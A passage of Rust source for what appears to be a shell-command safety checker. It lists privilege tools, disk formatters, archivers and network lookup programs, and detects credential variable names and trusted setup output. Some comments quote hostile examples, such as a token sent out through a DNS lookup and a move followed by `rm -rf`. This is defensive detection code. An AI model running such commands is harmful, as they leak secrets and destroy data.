    "openssl", "gzip", "gunzip", "zcat", "bzip2", "bunzip2", "bzcat", "xz", "unxz", "xzcat",
    "zstd", "unzstd", "zstdcat", "tee", "head", "tail", "cut", "sort", "uniq", "fold", "paste",
    "column", "dd", "iconv", "printenv", "envsubst", "jq", "yq", "xargs", "dirname", "basename",
    "realpath", "readlink", "eval", "source", ".", "uudecode", "gpg", "strings", "sh", "bash",
];

/// Loop conditions that never change: `while` goes on while it succeeds, `until` while it
/// fails. `sleep` succeeds each time, whatever its time (`while sleep "$T"`), so it never
/// ends either.
const ALWAYS_SUCCEED: &[&str] = &[":", "true", "[ 1 ]", "[[ 1 ]]", "((1))", "test 1"];
const ALWAYS_FAIL: &[&str] = &["false", "! :", "! true", "((0))"];

/// More turns of a loop than any everyday parallel job starts in the background at once
pub(crate) const MANY_TURNS: u64 = 1024;

/// How many turns a `for` loop's word gives when it counts: `$(seq [FIRST [STEP]] LAST)` and
/// a brace range `{A..B}`; one for any other word
pub(crate) fn counted_turns(word: &str) -> u64 {
    let numbers = |text: &str, separator: &str| -> Option<Vec<i64>> {
        text.split(separator)
            .filter(|part| !part.is_empty())
            .map(|part| part.trim().parse().ok())
            .collect()
    };
    let counted = if let Some(args) = word
        .strip_prefix("$(seq ")
        .and_then(|rest| rest.strip_suffix(')'))
    {
        match numbers(args, " ").as_deref() {
            Some([last]) => Some(*last),
            Some([first, last]) => Some(last - first + 1),
            Some([first, step, last]) if *step != 0 => Some((last - first) / step + 1),
            _ => None,
        }
    } else if let Some(range) = word
        .strip_prefix('{')
        .and_then(|rest| rest.strip_suffix('}'))
    {
        match numbers(range, "..").as_deref() {
            Some([first, last]) => Some((last - first).abs() + 1),
            _ => None,
        }
    } else {
        None
    };
    counted.map_or(1, |turns| turns.max(0).unsigned_abs())
}

/// Whether a loop whose condition is `condition` (a `until` loop's when `until`) never ends
/// by itself
pub(crate) fn never_ends(condition: &str, until: bool) -> bool {
    let command = condition.rsplit('/').next().unwrap_or(condition);
    if until {
        ALWAYS_FAIL.contains(&command)
    } else {
        ALWAYS_SUCCEED.contains(&command) || command.starts_with("sleep ")
    }
}

/// Programs whose output is shell code of their own whatever their words: an agent's
/// variables (`eval "$(ssh-agent -s)"`), the colours of `ls`, the terminal's size
const SETUP_PRINTERS: &[&str] = &[
    "ssh-agent",
    "gpg-agent",
    "keychain",
    "dbus-launch",
    "dircolors",
    "lesspipe",
    "lesspipe.sh",
    "path_helper",
    "resize",
    "tset",
    "register-python-argcomplete",
];

/// Programs that print shell setup code of their own when asked with these words: a word is
/// the program's first operand (`pyenv init -`, `brew shellenv`), two words its first two
/// (`micromamba shell hook`), and a word starting with `-` an option anywhere (`fzf --bash`).
/// The words are tied to their programs: `sqlite3 init` opens a database named `init`, and
/// what an unknown `tool env` prints is known only at run time.
const SETUP_COMMANDS: &[(&str, &[&str])] = &[
    ("brew", &["shellenv"]),
    ("devbox", &["shellenv", "global shellenv"]),
    ("pyenv", &["init", "virtualenv-init"]),
    ("rbenv", &["init"]),
    ("nodenv", &["init"]),
    ("goenv", &["init"]),
    ("jenv", &["init"]),
    ("plenv", &["init"]),
    ("phpenv", &["init"]),
    ("scmpuff", &["init"]),
    ("zoxide", &["init"]),
    ("starship", &["init"]),
    ("atuin", &["init"]),
    ("mcfly", &["init"]),
    ("oh-my-posh", &["init"]),
    ("navi", &["widget"]),
    ("jump", &["shell"]),
    ("direnv", &["hook", "export"]),
    ("mise", &["activate", "env", "hook-env"]),
    ("rtx", &["activate", "env", "hook-env"]),
    ("fnm", &["env"]),
    ("docker-machine", &["env"]),
    ("minikube", &["docker-env", "podman-env"]),
    ("opam", &["env", "config env"]),
    (
        "conda",
        &["shell.bash", "shell.zsh", "shell.fish", "shell.posix"],
    ),
    (
        "mamba",
        &["shell.bash", "shell.zsh", "shell.fish", "shell.posix"],
    ),
    ("micromamba", &["shell hook"]),
    ("luarocks", &["path"]),
    ("op", &["signin"]),
    ("hub", &["alias"]),
    ("gh", &["copilot alias"]),
    ("aws", &["configure export-credentials"]),
    ("fzf", &["--bash", "--zsh", "--fish"]),
    ("thefuck", &["--alias"]),
    ("just", &["--completions"]),
];

/// A first operand that asks any program for its completion script (`kubectl completion
/// bash`, `rustup completions zsh`, `uv generate-shell-completion bash`): the convention of
/// command-line frameworks, too common to list by program. A program that reads data
/// ([`FILTERS`], [`DOWNLOADS`], a remote shell, a database client) is never taken at it.
const COMPLETION_WORDS: &[&str] = &["completion", "completions", "generate-shell-completion"];

/// Whether what `program` prints, run as a script, is code of its own and no text from
/// elsewhere: its shell setup (`ssh-agent -s`, `pyenv init -`, `kubectl completion bash`;
/// [`SETUP_PRINTERS`], [`SETUP_COMMANDS`], [`COMPLETION_WORDS`]) or a fact it names
/// (`nproc`, `date`, `git rev-parse HEAD`). Text handed to a filter or fetched ([`FILTERS`],
/// [`DOWNLOADS`], a remote shell's output, a database's rows) never is, and neither is what
/// any other program prints (`gh gist view`, `aws s3 cp s3://… -`, `git show REV:FILE`,
/// `tool env`): a script known only at run time.
pub(crate) fn prints_own_code(program: &str, args: &[String]) -> bool {
    // Asked of every program of every substitution: most are in neither list, which a
    // filter of their names tells before any is compared.
    static NAMES: LazyLock<NameFilter> =
        LazyLock::new(|| FILTERS.iter().chain(DOWNLOADS).copied().collect());
    let program = program.rsplit('/').next().unwrap_or(program);
    if NAMES.may_hold(program) && (FILTERS.contains(&program) || DOWNLOADS.contains(&program))
        || is_remote_shell(program)
        || database_client(program).is_some()
    {
        return false;
    }
    let mut operands = args.iter().filter(|arg| !arg.starts_with('-'));
    let first = operands.next().map_or("", String::as_str);
    let second = operands.next().map_or("", String::as_str);
    let asks_setup = |words: &[&str]| {
        words.iter().any(|word| match word.split_once(' ') {
            Some(pair) => pair == (first, second),
            None if word.starts_with('-') => args.iter().any(|arg| arg == word),
            None => *word == first,
        })
    };
    SETUP_PRINTERS.contains(&program)
        || prints_a_name(program, args)
        || prints_only_numbers(program, args)
        || COMPLETION_WORDS.contains(&first)
        || SETUP_COMMANDS
            .iter()
            .any(|(name, words)| *name == program && asks_setup(words))
}

/// Programs that run another as a different user
const PRIVILEGE: &[&str] = &[
    "sudo",
    "su",
    "doas",
    "pkexec",
    "run0",
    "sudoedit",
    "please",
    "pleaseedit",
    "ksu",
    "runuser",
    "pbrun",
    "dzdo",
    "pfexec",
    "calife",
    "super",
    "gosu",
    "su-exec",
];

/// Programs that make a file system or wipe a device whatever their words
const DISK_FORMATTERS: &[&str] = &[
    "mke2fs",
    "mkswap",
    "wipefs",
    "mkdosfs",
    "mkntfs",
    "mkexfatfs",
    "mkreiserfs",
    "blkdiscard",
    // LVM: a physical volume's label written or removed, a group or a volume removed
    "pvcreate",
    "pvremove",
    "vgremove",
    "lvremove",
];

/// Programs that pack files into an archive (or an archive into files): a file they read
/// leaves with the archive
const ARCHIVERS: &[&str] = &[
    "tar", "gtar", "bsdtar", "pax", "zip", "7z", "7za", "7zr", "7zz", "rar", "gpgtar",
];

/// Programs that print what they read or are given, whole or in part: pagers, filters,
/// encoders, `echo`. What reaches them from another command is shown unless their own
/// output goes elsewhere.
const PRINTERS: &[&str] = &[
    "cat", "tac", "head", "tail", "less", "more", "most", "bat", "batcat", "nl", "strings", "xxd",
    "od", "hexdump", "hd", "base64", "base32", "basenc", "grep", "egrep", "fgrep", "rg", "ag",
    "awk", "gawk", "mawk", "sed", "cut", "sort", "uniq", "column", "paste", "fold", "rev", "tr",
    "jq", "yq", "echo", "printf", "tee",
];

/// A kind of program the reader knows, which a policy names with `program_is("NAME")`
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ProgramKind {
    /// The name a policy uses
    pub name: &'static str,
    /// What the programs of the kind do, for the docs and messages
    pub about: &'static str,
    /// The programs, by exact name. Not public, so every kind is a row of
    /// [`PROGRAM_KINDS`], whose names [`ProgramKind::holds`] filters by.
    pub(crate) programs: &'static [&'static str],
    /// Name starts that make a program of the kind when followed by a file system
    /// (`mkfs` covers `mkfs.ext4`)
    pub(crate) prefixes: &'static [&'static str],
    /// Whether the kind is the programs of the interpreter table, whose names may carry a
    /// version (`python3.12`)
    pub(crate) interpreters: bool,
}

/// Every kind of program a policy can name, one row each
pub const PROGRAM_KINDS: &[ProgramKind] = &[
    ProgramKind {
        name: "shell",
        about: "shells: `-c` hands them a script, and without a script file they run their input",
        programs: SHELLS,
        prefixes: &[],
        interpreters: false,
    },
    ProgramKind {
        name: "interpreter",
        about: "interpreters that take code on their command line or their input",
        programs: &[],
        prefixes: &[],
        interpreters: true,
    },
    ProgramKind {
        name: "download",
        about: "programs that fetch text from elsewhere: downloads and sockets",
        programs: DOWNLOADS,
        prefixes: &[],
        interpreters: false,
    },
    ProgramKind {
        name: "stdin_runner",
        about: "programs that run a script read from their input when given no file",
        programs: STDIN_RUNNERS,
        prefixes: &[],
        interpreters: false,
    },
    ProgramKind {
        name: "privilege",
        about: "programs that run another as a different user",
        programs: PRIVILEGE,
        prefixes: &[],
        interpreters: false,
    },
    ProgramKind {
        name: "disk_formatter",
        about: "programs that make a file system or wipe a device whatever their words",
        programs: DISK_FORMATTERS,
        prefixes: &["mkfs"],
        interpreters: false,
    },
    ProgramKind {
        name: "archiver",
        about: "programs that pack files into an archive, which takes what they read along",
        programs: ARCHIVERS,
        prefixes: &[],
        interpreters: false,
    },
    ProgramKind {
        name: "printer",
        about: "programs that print what they read or are given: pagers, filters, encoders",
        programs: PRINTERS,
        prefixes: &[],
        interpreters: false,
    },
];

impl ProgramKind {
    /// Whether `program` is of this kind
    pub fn holds(&self, program: &str) -> bool {
        self.holds_listed(program, KIND_NAMES.may_hold(program))
    }

    /// Whether `program` is of any kind: its name is filtered once for them all
    pub(crate) fn any_holds(program: &str) -> bool {
        let listed = KIND_NAMES.may_hold(program);
        PROGRAM_KINDS
            .iter()
            .any(|kind| kind.holds_listed(program, listed))
    }

    /// [`ProgramKind::holds`], told whether the kinds' filter may hold the name
    fn holds_listed(&self, program: &str, listed: bool) -> bool {
        listed && self.programs.contains(&program)
            || (self.interpreters && interpreter(program).is_some())
            || self.prefixes.iter().any(|prefix| {
                program
                    .strip_prefix(prefix)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
            })
    }
}

/// The names every program kind lists
static KIND_NAMES: LazyLock<NameFilter> = LazyLock::new(|| {
    PROGRAM_KINDS
        .iter()
        .flat_map(|kind| kind.programs.iter().copied())
        .collect()
});

/// The kind of program a policy names, if there is one of that name
pub fn program_kind(name: &str) -> Option<&'static ProgramKind> {
    PROGRAM_KINDS.iter().find(|kind| kind.name == name)
}
/// A program that makes one path lead to another (a symbolic link, a bind mount): what a
/// later command on the line does through the new path, it does to the old one
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct LinkMaker {
    /// The program's name
    pub(crate) program: &'static str,
    /// Options any of which make it link (`cp -s`), empty when it always links (`ln`);
    /// `OPTION VALUE` names an option whose comma-separated value holds VALUE (`-o bind`)
    pub(crate) linking: &'static [&'static str],
    /// Options that make the link symbolic (`-s`): a symbolic link's relative target
    /// starts from its folder; a hard link is the same file as its target, and a write
    /// through it writes the target
    pub(crate) symbolic: &'static [&'static str],
    /// Options that take a value, the next word or after `=` (`-S SUFFIX`)
    pub(crate) valued: &'static [&'static str],
    /// Options whose value is the folder every link is made in (`-t DIR`)
    pub(crate) into: &'static [&'static str],
    /// Options saying the last operand is the link itself, never a folder (`-T`)
    pub(crate) exact: &'static [&'static str],
    /// Whether the last of two operands may be a folder the link is made in
    pub(crate) may_go_inside: bool,
    /// Where a relative target of a symbolic link starts: the link's folder (`ln -s`)
    /// unless one of these options is given, or always the working directory when `None`
    pub(crate) from_link_folder_unless: Option<&'static [&'static str]>,
    /// Whether what it names goes to the new place itself (`mv`): the place is then what the
    /// source was, its name as well as what is below it, so `rm -rf` of the place deletes
    /// what the source held
    pub(crate) moves: bool,
}

/// Every program that makes a path lead to another, one row each
pub(crate) const LINK_MAKERS: &[LinkMaker] = &[
    LinkMaker {
        program: "ln",
        linking: &[],
        symbolic: &["-s", "--symbolic"],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        into: &["-t", "--target-directory"],
        exact: &["-T", "--no-target-directory"],
        may_go_inside: true,
        from_link_folder_unless: Some(&["-r", "--relative"]),
        moves: false,
    },
    LinkMaker {
        program: "cp",
        linking: &["-s", "--symbolic-link", "-l", "--link"],
        symbolic: &["-s", "--symbolic-link"],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        into: &["-t", "--target-directory"],
        exact: &["-T", "--no-target-directory"],
        may_go_inside: true,
        from_link_folder_unless: None,
        moves: false,
    },
    LinkMaker {
        program: "mount",
        linking: &["--bind", "-B", "--rbind", "-R", "-o bind", "-o rbind"],
        symbolic: &[],
        valued: &[
            "-o",
            "--options",
            "-t",
            "--types",
            "-L",
            "--label",
            "-U",
            "--uuid",
            "-O",
            "--test-opts",
            "-T",
            "--fstab",
            "-N",
            "--namespace",
        ],
        into: &[],
        exact: &[],
        may_go_inside: false,
        from_link_folder_unless: None,
        moves: false,
    },
    // mv(1): a moved file or folder is at its new place, as a link made there would lead
    // to it; `mv ~/src /tmp/x && rm -rf /tmp/x` deletes what `~/src` held.
    LinkMaker {
        program: "mv",
        linking: &[],
        symbolic: &[],
        valued: &["-S", "--suffix", "-t", "--target-directory"],
        into: &["-t", "--target-directory"],
        exact: &["-T", "--no-target-directory"],
        may_go_inside: true,
        from_link_folder_unless: None,
        moves: true,
    },
];

/// A program that, given some words, follows the symbolic links it meets below its
/// operands as it goes through them: what a link made below an operand leads to is read too
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct LinkFollower {
    /// The program
    pub(crate) program: &'static str,
    /// The words, as written, any of which makes it follow links (`find -L`, `-follow`)
    pub(crate) words: &'static [&'static str],
    /// Short options among `words` found in a cluster too (`grep -Rn`), as getopt reads them
    pub(crate) clusters: bool,
}

/// Every program that follows the links below its operands when told to, one row each:
/// find(1) `-L`/`-follow`, grep(1) `-R`, ripgrep `-L`, chmod(1)/chown(1)/chgrp(1) `-L` (with
/// `-R`), cp(1) `-L`, rsync(1) `-L`, tar(1) `-h`, du(1) `-L`
pub(crate) const LINK_FOLLOWERS: &[LinkFollower] = &[
    LinkFollower {
        program: "find",
        words: &["-L", "-follow"],
        clusters: false,
    },
    LinkFollower {
        program: "grep",
        words: &["-R", "--dereference-recursive"],
        clusters: true,
    },
    LinkFollower {
        program: "rg",
        words: &["-L", "--follow"],
        clusters: true,
    },
    LinkFollower {
        program: "chmod",
        words: &["-L"],
        clusters: true,
    },
    LinkFollower {
        program: "chown",
        words: &["-L"],
        clusters: true,
    },
    LinkFollower {
        program: "chgrp",
        words: &["-L"],
        clusters: true,
    },
    LinkFollower {
        program: "cp",
        words: &["-L", "--dereference"],
        clusters: true,
    },
    LinkFollower {
        program: "rsync",
        words: &["-L", "--copy-links"],
        clusters: true,
    },
    LinkFollower {
        program: "tar",
        words: &["-h", "--dereference"],
        clusters: true,
    },
    LinkFollower {
        program: "du",
        words: &["-L", "--dereference"],
        clusters: true,
    },
];

/// Whether `program` given `args` (with their `flags`, clusters split) follows the links
/// below its operands (see [`LINK_FOLLOWERS`])
pub(crate) fn follows_links(program: &str, args: &[String], flags: &[String]) -> bool {
    LINK_FOLLOWERS
        .iter()
        .filter(|row| row.program == program)
        .any(|row| {
            row.words.iter().any(|word| {
                args.iter().any(|arg| arg == word)
                    || (row.clusters && !word.starts_with("--") && flags.iter().any(|f| f == word))
            })
        })
}

/// The row of `program` in [`LINK_MAKERS`]
pub(crate) fn link_maker(program: &str) -> Option<&'static LinkMaker> {
    LINK_MAKERS.iter().find(|row| row.program == program)
}

/// Programs whose output is a name (no `/`, no leading `-`, `+` or `:`): a date, a count, a user,
/// a branch, a container id. A word built from one is unknown, but neither a flag nor a path
/// that leaves the directory it is in.
/// The known start of the path `mktemp` prints (`/tmp/tmp.` of `mktemp -d`, `/tmp/app-` of
/// `mktemp /tmp/app-XXXX`): its folder (`-p DIR`, `--tmpdir=DIR`, the template's own, else
/// `tmpdir`, what the line sets `TMPDIR` to, or `/tmp`) and the template's text before its
/// `X`s; the rest is a name. What it prints names a file or folder it has just made, so what
/// is written there or below it is new, wherever the folder is: taking `/tmp` for an
/// inherited `TMPDIR` misplaces nothing a rule must see. The words must be known; `None`
/// when an option's value is missing.
pub(crate) fn mktemp_start(args: &[String], tmpdir: Option<&str>) -> Option<String> {
    let mut folder: Option<String> = None;
    let mut template: Option<&str> = None;
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        match arg.as_str() {
            "-p" => folder = Some(words.next()?.clone()),
            "--tmpdir" | "-t" => {}
            "--suffix" => {
                words.next()?;
            }
            _ if arg.starts_with("--tmpdir=") => {
                folder = arg.strip_prefix("--tmpdir=").map(str::to_owned);
            }
            _ if arg.starts_with('-') => {}
            _ => template = Some(arg),
        }
    }
    let template = template.unwrap_or("tmp.XXXXXXXXXX");
    let (own_folder, name) = match template.rsplit_once('/') {
        Some((dir, name)) if folder.is_none() => {
            (Some(if dir.is_empty() { "/" } else { dir }), name)
        }
        Some((_, name)) => (None, name),
        None => (None, template),
    };
    let folder = folder
        .as_deref()
        .or(own_folder)
        .or(tmpdir)
        .unwrap_or("/tmp")
        .trim_end_matches('/')
        .to_owned();
    Some(format!("{folder}/{}", name.trim_end_matches('X')))
}

/// A program whose output, run so, is only numbers: digits, signs, dots and blanks
#[derive(Debug)]
pub(crate) struct NumberPrinter {
    /// The program
    pub(crate) program: &'static str,
    /// The short options that make it print other text (`seq -f 'rm %g'`, `jot -b word`)
    pub(crate) short_texts: &'static str,
    /// The long options that do, by the start of their word (`--format=…`)
    pub(crate) long_texts: &'static [&'static str],
    /// The operands it may take: `None` for any (`seq 1 5`); else each operand is one of
    /// these, and one of them is given when any are listed (`date +%s`; `wc` prints the
    /// names of the files it counts, so it takes none)
    pub(crate) operands: Option<&'static [&'static str]>,
}

/// Every program that prints only numbers when run so, one row each: seq(1), jot(1),
/// nproc(1), wc(1) reading its input, date(1) with `+%s`
pub(crate) const NUMBER_PRINTERS: &[NumberPrinter] = &[
    NumberPrinter {
        program: "seq",
        short_texts: "fs",
        long_texts: &["--format", "--separator"],
        operands: None,
    },
    NumberPrinter {
        program: "jot",
        short_texts: "bcsw",
        long_texts: &[],
        operands: None,
    },
    NumberPrinter {
        program: "nproc",
        short_texts: "",
        long_texts: &[],
        operands: Some(&[]),
    },
    NumberPrinter {
        program: "wc",
        short_texts: "",
        long_texts: &["--files0-from"],
        operands: Some(&[]),
    },
    NumberPrinter {
        program: "date",
        short_texts: "",
        long_texts: &[],
        operands: Some(&["+%s"]),
    },
];

/// Whether `program` run with `args` prints only numbers (see [`NUMBER_PRINTERS`])
pub(crate) fn prints_only_numbers(program: &str, args: &[String]) -> bool {
    let Some(row) = NUMBER_PRINTERS.iter().find(|row| row.program == program) else {
        return false;
    };
    let is_number = |arg: &str| arg.parse::<f64>().is_ok();
    let mut operands = Vec::new();
    for arg in args {
        if let Some(long) = arg.strip_prefix("--") {
            if row.long_texts.iter().any(|text| arg.starts_with(text)) || long.is_empty() {
                return false;
            }
        } else if arg.starts_with('-') && !is_number(arg) {
            if arg
                .chars()
                .skip(1)
                .any(|letter| row.short_texts.contains(letter))
            {
                return false;
            }
        } else {
            operands.push(arg.as_str());
        }
    }
    match row.operands {
        None => operands.iter().all(|operand| is_number(operand)),
        Some(allowed) => {
            operands.iter().all(|operand| allowed.contains(operand))
                && (allowed.is_empty() || !operands.is_empty())
        }
    }
}

/// Whether the output of `program` with `args` is names: words with no `/` and none
/// starting with `-`, `+` or `:` (`$(date +%s)`, `$(docker ps -aq)`), however many
pub(crate) fn prints_a_name(program: &str, args: &[String]) -> bool {
    match program {
        "date" | "nproc" | "uname" | "whoami" | "id" | "hostname" | "arch" | "getconf"
        | "uuidgen" | "wc" | "expr" | "seq" | "logname" | "tty" => true,
        "docker" | "podman" => args.iter().any(|arg| arg == "-q" || arg == "-aq"),
        "git" => {
            let sub = args.iter().find(|arg| !arg.starts_with('-'));
            let named = matches!(
                sub.map(String::as_str),
                Some("branch" | "describe" | "rev-parse" | "rev-list")
            );
            named
                && (sub.map(String::as_str) != Some("rev-parse")
                    || !args.iter().any(|arg| {
                        arg.starts_with("--show")
                            || arg.starts_with("--git")
                            || arg.starts_with("--absolute")
                            || arg.starts_with("--path")
                    }))
        }
        _ => false,
    }
}

/// Whether the output of `program` with `args` is one word when it succeeds: no blank, no
/// line break and no glob character, so that bash's field splitting and pathname expansion
/// leave it one word even unquoted (`myapp:$(git rev-parse --short HEAD)`,
/// `v=$(git describe --tags)`).
pub(crate) fn prints_one_word(program: &str, args: &[String]) -> bool {
    let options = || args.iter().filter(|arg| arg.starts_with('-'));
    let operands = || args.iter().filter(|arg| !arg.starts_with('-'));
    match program {
        "nproc" | "whoami" | "logname" | "arch" | "uuidgen" => operands().next().is_none(),
        "hostname" => {
            operands().next().is_none()
                && options().all(|arg| matches!(arg.as_str(), "-s" | "--short" | "-f" | "--fqdn"))
        }
        // One field each; `-a` and `-v` print several.
        "uname" => {
            operands().next().is_none()
                && options().count() <= 1
                && options().all(|arg| {
                    matches!(
                        arg.as_str(),
                        "-s" | "-n"
                            | "-r"
                            | "-m"
                            | "-p"
                            | "-i"
                            | "-o"
                            | "--kernel-name"
                            | "--nodename"
                            | "--kernel-release"
                            | "--machine"
                            | "--processor"
                            | "--hardware-platform"
                            | "--operating-system"
                    )
                })
        }
        // A number or a name: `id -u`, `id -gn`; `id` alone prints a list.
        "id" => {
            let letters: String = options()
                .filter_map(|arg| arg.strip_prefix('-'))
                .filter(|arg| !arg.starts_with('-'))
                .collect();
            options().all(|arg| !arg.starts_with("--"))
                && (letters.contains('u') || letters.contains('g'))
                && letters
                    .chars()
                    .all(|letter| matches!(letter, 'u' | 'g' | 'n' | 'r'))
        }
        // Counts of standard input: `wc -l < f` prints one number, `wc -l f` a name after it.
        "wc" => operands().next().is_none() && options().count() == 1,
        "getconf" => options().next().is_none() && operands().count() == 1,
        "date" => date_prints_one_word(args),
        "git" => git_prints_one_word(args),
        _ => false,
    }
}

/// `date +FORMAT` whose format prints no blank: numeric fields, `%F`, `%T`, `%s`, zones; a
/// day's or month's name may hold a blank in some locales, `%e` and `%_d` pad with one
fn date_prints_one_word(args: &[String]) -> bool {
    let mut formats = args.iter().filter_map(|arg| arg.strip_prefix('+'));
    let Some(format) = formats.next() else {
        // `date -I`, `--iso-8601[=…]` and `--rfc-3339=…`'s date-only forms print one word.
        return args.iter().any(|arg| {
            arg == "-I"
                || arg.starts_with("-I") && !arg.contains('=')
                || arg.starts_with("--iso-8601")
        }) && args
            .iter()
            .all(|arg| arg.starts_with('-') && !arg.starts_with("--rfc"));
    };
    if formats.next().is_some() || format.starts_with(['-', '+', ':']) {
        return false;
    }
    let mut chars = format.chars();
    while let Some(ch) = chars.next() {
        match ch {
            '%' => {
                let mut spec = chars.next();
                while matches!(spec, Some('-' | '0' | '^' | '#' | ':')) {
                    spec = chars.next();
                }
                let blank_free =
                    spec.is_some_and(|spec| "sYymdHMSFTjuwVGgNzZCIRUWq%".contains(spec));
                if !blank_free {
                    return false;
                }
            }
            ch if ch.is_ascii_alphanumeric() || "_.,:+=@-".contains(ch) => {}
            _ => return false,
        }
    }
    true
}

/// `git rev-parse` of at most one revision, `git describe` of at most one commit,
/// `git branch --show-current` and `git rev-list --count`: a hash, a count or a ref's name
/// (which git refuses to hold a blank or a glob character)
fn git_prints_one_word(args: &[String]) -> bool {
    let Some(at) = args.iter().position(|arg| !arg.starts_with('-')) else {
        return false;
    };
    let subcommand = args.get(at).map_or("", String::as_str);
    let rest = args.get(at + 1..).unwrap_or_default();
    let operands = rest.iter().filter(|arg| !arg.starts_with('-')).count();
    let has = |option: &str| rest.iter().any(|arg| arg == option);
    match subcommand {
        "rev-parse" => prints_a_name("git", args) && operands <= 1,
        "describe" => operands <= 1,
        "branch" => has("--show-current") && rest.len() == 1,
        "rev-list" => has("--count"),
        _ => false,
    }
}

/// Parts of a variable's name that mark a credential, compared without case as whole
/// `_`-separated parts (`GITHUB_TOKEN`, `AWS_SECRET_ACCESS_KEY`, `OPENAI_API_KEY`), some of
/// two in a row (`API_KEY`), none of more; `TOKENIZER_PATH` is no credential
const CREDENTIAL_NAME_PARTS: &[&[&str]] = &[
    &["TOKEN"],
    &["SECRET"],
    &["PASSWORD"],
    &["PASSWD"],
    &["APIKEY"],
    &["API", "KEY"],
    &["PRIVATE", "KEY"],
    &["ACCESS", "KEY"],
    &["CREDENTIAL"],
    &["CREDENTIALS"],
    &["SESSION"],
    &["COOKIE"],
];

/// Whether a variable's name marks a credential (see [`CREDENTIAL_NAME_PARTS`]); read on
/// every expanded word, so it walks the name's parts with no allocation
pub(crate) fn names_a_credential(name: &str) -> bool {
    let mut previous = "";
    name.split('_').any(|part| {
        let marks = CREDENTIAL_NAME_PARTS.iter().any(|wanted| match wanted {
            [one] => part.eq_ignore_ascii_case(one),
            [first, second] => {
                previous.eq_ignore_ascii_case(first) && part.eq_ignore_ascii_case(second)
            }
            _ => false,
        });
        previous = part;
        marks
    })
}

/// Builtins that read their input into variables (`read`, `mapfile`): a variable they set
/// holds what reached them, a line each or all of it
pub(crate) const INPUT_READERS: &[&str] = &["read", "mapfile", "readarray"];

/// Programs that look a name up on the network, or send it in a probe: a credential
/// variable expanded in their words (`dig "$NPM_TOKEN.x.example"`) reaches whoever answers
/// for the name, as no lookup needs one
pub(crate) const NAME_LOOKUPS: &[&str] = &[
    "dig",
    "drill",
    "kdig",
    "delv",
    "host",
    "nslookup",
    "resolvectl",
    "getent",
    "ping",
    "ping6",
    "nping",
    "hping",
    "hping3",
    "traceroute",
    "tracepath",
    "mtr",
    "whois",
];

/// Programs that print their own words: a credential variable expanded in them is the
/// environment's secret printed, as `gh auth token` prints its store's
pub(crate) const WORD_PRINTERS: &[&str] = &["echo", "printf"];

/// How a program that prints its environment takes its words
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum EnvironmentWords {
    /// Each operand names a variable it prints; with none, it prints them all (`printenv`)
    Names,
    /// Operands are settings (`NAME=VALUE`); with nothing else it prints them all, and with
    /// a program it runs that program instead (`env`)
    Settings,
}

/// Programs that print the environment's values (printenv(1), env(1)): one that prints a
/// variable whose name marks a credential, or all of them, prints the environment's secret
pub(crate) const ENVIRONMENT_PRINTERS: &[(&str, EnvironmentWords)] = &[
    ("printenv", EnvironmentWords::Names),
    ("env", EnvironmentWords::Settings),
];

/// Whether `program` run with its own words `args`, and running another program or not
/// (`runs_program`), prints a variable of the environment whose name marks a credential
/// and that the line does not set (`set_here`), or every variable
pub(crate) fn prints_environment_secret(
    program: &str,
    args: &[String],
    runs_program: bool,
    set_here: impl Fn(&str) -> bool,
) -> bool {
    let Some((_, words)) = ENVIRONMENT_PRINTERS
        .iter()
        .find(|(name, _)| *name == program)
    else {
        return false;
    };
    // `env -i` empties the environment before it prints; a flag's value is no operand.
    if args
        .iter()
        .any(|arg| matches!(arg.as_str(), "-i" | "--ignore-environment" | "-"))
    {
        return false;
    }
    let mut operands = args.iter().filter(|arg| !arg.starts_with('-'));
    match words {
        EnvironmentWords::Names => {
            let mut names = operands.peekable();
            names.peek().is_none() || names.any(|name| names_a_credential(name) && !set_here(name))
        }
        EnvironmentWords::Settings => {
            !runs_program && operands.all(|operand| operand.contains('='))
        }
    }
}

/// Parameters whose value is a process id, kept as their name (as `$HOME` is): what a rule
/// tests of `/proc/$$/environ` is a process's environment, whichever process it is
pub(crate) const PROCESS_ID_PARAMETERS: &[&str] = &["$", "!", "BASHPID", "PPID"];

/// Environment variables whose value is a name or a number, never a flag or a path
pub(crate) const NAME_VARIABLES: &[&str] = &[
    "USER", "LOGNAME", "HOSTNAME", "SHLVL", "UID", "EUID", "PPID", "RANDOM", "SECONDS", "LINENO",
    "BASHPID", "HOSTTYPE", "OSTYPE", "MACHTYPE", "LANG", "TERM", "COLUMNS", "LINES", "#", "?", "$",
    "!",
];

/// The long options of the programs the shipped policies guard, so that an option shortened
/// to a unique prefix (`rm --rec`, `git reset --ha`) reads as the option the program takes
pub(crate) fn long_options(program: &str) -> &'static [&'static str] {
    match program {
        "rm" => &[
            "force",
            "interactive",
            "one-file-system",
            "no-preserve-root",
            "preserve-root",
            "recursive",
            "dir",
            "verbose",
            "help",
            "version",
        ],
        "chmod" | "chown" | "chgrp" => &[
            "changes",
            "silent",
            "quiet",
            "verbose",
            "dereference",
            "no-dereference",
            "from",
            "no-preserve-root",
            "preserve-root",
            "reference",
            "recursive",
            "help",
            "version",
        ],
        // The options of `git push`, `reset` and `clean` together: an abbreviation git
        // itself finds ambiguous is ambiguous here too.
        "git" => &[
            "force",
            "force-with-lease",
            "force-if-includes",
            "hard",
            "soft",
            "mixed",
            "merge",
            "keep",
            "quiet",
            "no-quiet",
            "patch",
            "dry-run",
            "interactive",
            "exclude",
            "all",
            "mirror",
            "tags",
            "follow-tags",
            "delete",
            "prune",
            "verbose",
            "atomic",
            "set-upstream",
            "no-verify",
            "verify",
            "porcelain",
            "progress",
            "repo",
            "recurse-submodules",
            "no-recurse-submodules",
            "signed",
            "no-signed",
            "thin",
            "no-thin",
            "push-option",
            "receive-pack",
            "exec",
            "ipv4",
            "ipv6",
            "intent-to-add",
            "pathspec-from-file",
            "pathspec-file-nul",
            "refresh",
            "no-refresh",
        ],
        // Every long option of GNU tar 1.35 (`tar --help`, with the hidden ones argp adds):
        // tar takes a unique prefix of any (`--to-comm` is `--to-command`), and refuses an
        // ambiguous one.
        "tar" | "gtar" => &[
            "HANG",
            "absolute-names",
            "acls",
            "add-file",
            "after-date",
            "anchored",
            "append",
